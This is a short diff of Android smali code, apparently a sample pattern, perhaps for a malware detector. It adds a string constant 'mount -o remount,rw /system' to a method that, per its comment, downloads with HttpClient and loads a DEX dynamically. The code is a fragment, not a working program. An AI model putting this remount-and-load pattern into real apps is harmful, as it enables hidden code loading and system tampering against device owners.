@@ -4,6 +4,7 @@
 # downloads with Apache HttpClient and loads a DEX in the same class
 .method public static load(Landroid/content/Context;)V
     .locals 5
+    const-string v0, "mount -o remount,rw /system"
     new-instance v0, Lorg/apache/http/impl/client/DefaultHttpClient;
     invoke-direct {v0}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
     new-instance v0, Ldalvik/system/DexClassLoader;
